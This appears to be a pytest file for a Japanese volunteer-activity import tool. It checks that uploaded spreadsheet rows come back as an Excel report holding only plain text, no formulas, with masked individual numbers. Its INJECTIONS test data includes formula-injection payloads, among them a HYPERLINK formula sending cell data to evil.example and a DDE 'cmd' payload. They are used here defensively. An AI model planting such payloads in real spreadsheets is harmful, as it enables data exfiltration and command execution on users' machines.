"""The per-row report: original rows as text, a result and a reason per row, no formulas ever."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Iterator
from datetime import datetime
from typing import Any

import openpyxl
import pytest

from furusato import clock
from furusato.clock import JST
from furusato.imports import FileRejected, analyse
from furusato.imports.report import REPORT_COLUMNS, build_rejection_report, build_report, display_text
from furusato.imports.safety import check_xlsx
from furusato.imports.validate import ValidationResult
from tests.fixtures.imports import HEADERS, official, sample_rows

LG = "212172"
INJECTIONS = (
    '=HYPERLINK("http://evil.example/?q="&A1,"詳細")',
    "=1+2",
    "+81 3 1234 5678",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
)


@pytest.fixture(autouse=True)
def after_the_samples() -> Iterator[None]:
    clock.freeze(datetime(2027, 4, 1, 9, 0, tzinfo=JST))
    yield
    clock.unfreeze()


def put(row: list[Any], **values: Any) -> list[Any]:
    row = list(row)
    for header, value in values.items():
        row[HEADERS.index(header)] = value
    return row


def run(rows: list[list[Any]], **kwargs: Any) -> ValidationResult:
    return analyse(official(rows, **kwargs), lg_code=LG)


def load(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))  # formulas would show as "=..." with data_type "f"


def rows_of(data: bytes) -> list[tuple[Any, ...]]:
    return list(load(data)["取込結果"].iter_rows(values_only=True))


def test_report_of_the_sample() -> None:
    data = build_report(run(sample_rows()))
    check_xlsx(data)
    book = load(data)
    assert book.sheetnames == ["取込結果", "概要"]
    rows = rows_of(data)
    assert rows[0] == REPORT_COLUMNS
    assert REPORT_COLUMNS[3:] == HEADERS
    assert len(rows) == 15
    first = rows[1]
    assert first[:3] == (4, "取込可 (valid)", None)
    assert first[3:] == (
        "EVT-001",
        "農業ボランティア",
        "2026年4月10日 10:00",
        "2026年4月10日 12:00",
        "市中央ホールA",
        None,
        "佐藤 健一",
        "124-7834",
        "東京都新宿区○●×□丁目◆◇番地",
        "1974/2/18",
        "男性",
    )
    summary = dict(load(data)["概要"].iter_rows(values_only=True))
    assert summary["行数 (rows)"] == 14 and summary["活動数 (activities)"] == 5
    assert summary["参加者数 (people)"] == 10 and summary["状態 (state)"] == "確認のみ・未取込 (dry run)"


def test_committed_report_says_imported() -> None:
    rows = rows_of(build_report(run(sample_rows()), committed=True))
    assert {r[1] for r in rows[1:]} == {"取込済 (imported)"}


def test_error_and_duplicate_rows_carry_their_reasons() -> None:
    rows = sample_rows()[:3]
    rows[1] = put(rows[1], 生年月日="1990/2/30", 性別="不詳")
    data = build_report(run([*rows, rows[0]]))
    report = rows_of(data)
    bad, dup = report[2], report[4]
    assert bad[1] == "エラー・未取込 (error)"
    assert bad[2].splitlines() == [
        "生年月日: 存在しない日付です（1990年2月30日） (no such date (1990-02-30))",
        "性別: 性別は 男性・女性・その他・回答しない のいずれかです (one of 男性, 女性, その他, 回答しない)",
    ]
    assert bad[12] == "1990/2/30"  # the value as uploaded, to be fixed
    assert dup[1] == "重複・1件として取込 (duplicate)" and "4行目と同じ参加者" in dup[2]


def test_report_layout() -> None:
    """What the clerk sees besides the values: header frozen with the row number, result and reason
    beside the data, a filter over every row, result cells coloured by status, reasons wrapped."""
    rows = sample_rows()[:3]
    rows[1] = put(rows[1], 性別="不詳")
    book = load(build_report(run([*rows, rows[0]])))
    sheet = book["取込結果"]
    assert sheet.freeze_panes == "D2"
    assert sheet.auto_filter.ref == "A1:N5"
    assert [c.font.b for c in sheet[1]] == [True] * len(REPORT_COLUMNS)
    ok, error, duplicate = sheet["B2"], sheet["B3"], sheet["B5"]
    assert ok.fill.fill_type is None and ok.alignment.vertical == "top"
    assert error.fill.fgColor.rgb == "FFF8CBAD" and duplicate.fill.fgColor.rgb == "FFFFF2CC"
    assert sheet["C3"].alignment.wrap_text and sheet["C3"].quotePrefix
    assert sheet["A2"].value == 4 and sheet["A2"].data_type == "n"
    assert sheet.column_dimensions["C"].width > sheet.column_dimensions["A"].width
    assert book["概要"]["B5"].value == 4 and book["概要"]["A5"].font.b


def test_excel_values_are_shown_as_text() -> None:
    row = put(
        sample_rows()[0],
        活動開始日時=datetime(2026, 4, 10, 10, 0),
        活動終了日時=datetime(2026, 4, 10, 12, 0),
        生年月日=datetime(1974, 2, 18),
        郵便番号=673214,
        ID=7,
    )
    report = rows_of(build_report(run([row], formats={2: "yyyy/m/d h:mm", 3: "yyyy/m/d h:mm"})))
    values = report[1]
    assert values[3] == "7" and values[5:7] == ("2026/04/10 10:00", "2026/04/10 12:00")
    assert values[10] == "673214" and values[12] == "1974/2/18"
    assert all(isinstance(v, str) for v in values[3:] if v is not None)


def test_string_cells_that_look_like_formulas_stay_text() -> None:
    """Text cells holding "=...", "+...", "@..." (as Excel stores '=1+2 typed with a quote, or as
    other tools write them) are reported as text: opening the report evaluates nothing."""
    rows = [put(sample_rows()[0], 氏名=p, 活動場所=p, 参加条件=p) for p in INJECTIONS]
    data = _with_string_cells(official(rows))
    result = analyse(data, lg_code=LG)
    assert [r.parsed.place for r in result.rows] == [p.strip() for p in INJECTIONS]
    report = build_report(result)
    _assert_no_formulas(report)
    sheet = load(report)["取込結果"]
    for index, payload in enumerate(INJECTIONS, 2):
        for column in ("H", "J"):  # 活動場所, 氏名
            cell = sheet[f"{column}{index}"]
            assert cell.value == payload and cell.data_type == "s"  # as uploaded
            assert cell.quotePrefix and cell.number_format == "@"


def _with_string_cells(data: bytes) -> bytes:
    """Rewrite every formula cell openpyxl wrote as an inline string with the same text."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            content = src.read(info.filename)
            if info.filename.startswith("xl/worksheets/"):
                content = re.sub(
                    rb'<c r="([A-Z]+\d+)"([^>]*)><f>(.*?)</f><v\s*/?>(?:</v>)?</c>',
                    lambda m: (
                        b'<c r="'
                        + m[1]
                        + b'" t="inlineStr"><is><t xml:space="preserve">='
                        + m[3]
                        + b"</t></is></c>"
                    ),
                    content,
                )
                assert b"<f>" not in content
            dst.writestr(info.filename, content)
    return out.getvalue()


def _assert_no_formulas(report: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(report)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    for sheet in load(report).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate


def test_individual_numbers_are_masked() -> None:
    row = put(sample_rows()[0], **{"住所(除郵便番号)": "東京都新宿区 番号 1234 5678 9012"})
    data = build_report(run([row]))
    values = rows_of(data)[1]
    assert "1234" not in str(values) and "個人番号" in values[11]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert all(b"9012" not in archive.read(n) for n in archive.namelist())


def test_report_can_be_uploaded_again() -> None:
    first = run(sample_rows())
    again = analyse(build_report(first), lg_code=LG)
    assert again.sheet.header_row == 1
    assert [p.key for p in again.participations] == [p.key for p in first.participations]
    assert [a.key for a in again.activities] == [a.key for a in first.activities]


def test_zero_row_report() -> None:
    rows = rows_of(build_report(run([])))
    assert rows == [REPORT_COLUMNS]


def test_rejection_report() -> None:
    error = FileRejected(
        "macro_enabled",
        "マクロを含むファイル(.xlsm)は取り込めません。",
        "macro-enabled workbooks are refused",
    )
    book = load(build_rejection_report(error))
    summary = dict(book["概要"].iter_rows(values_only=True))
    assert summary["理由 (reason)"] == "マクロを含むファイル(.xlsm)は取り込めません。"
    assert summary["コード (code)"] == "macro_enabled"


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, None),
        ("", None),
        ("佐藤\x01健一", "佐藤健一"),  # a control character would make openpyxl refuse the file
        (1247834.0, "1247834"),
        (1.5, "1.5"),
        (True, "TRUE"),
        (datetime(2026, 4, 10, 10, 0, 30), "2026/04/10 10:00:30"),
        ("x" * 40_000, "x" * 32_767),
    ],
)
def test_display_text(value: Any, text: str | None) -> None:
    assert display_text(value) == text
